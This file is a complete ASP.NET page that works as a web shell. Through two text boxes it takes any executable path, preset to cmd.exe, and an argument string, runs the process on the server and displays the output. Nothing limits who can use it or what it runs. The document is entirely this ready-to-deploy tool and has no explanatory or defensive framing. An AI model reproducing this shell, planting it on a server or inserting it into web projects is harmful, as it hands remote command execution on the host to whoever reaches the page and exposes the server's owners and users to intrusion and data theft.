<%@ Page Language="C#" %>
<%@ Import Namespace="System.Diagnostics" %>
<script runat="server">
string Launch(string exe, string line)
{
    var info = new ProcessStartInfo();
    info.FileName = exe;
    info.Arguments = line;
    info.UseShellExecute = false;
    info.RedirectStandardOutput = true;
    using (var proc = Process.Start(info)) { return proc.StandardOutput.ReadToEnd(); }
}
void Run_Click(object sender, EventArgs e)
{
    string exe = binPath.Text;
    string line = cmdLine.Text;
    result.Text = Server.HtmlEncode(Launch(exe, line));
}
</script>
<form runat="server">
<asp:TextBox ID="binPath" runat="server" Text="c:\windows\system32\cmd.exe" />
<asp:TextBox ID="cmdLine" runat="server" />
<asp:Button runat="server" Text="Go" OnClick="Run_Click" />
<pre><asp:Literal ID="result" runat="server" /></pre>
</form>
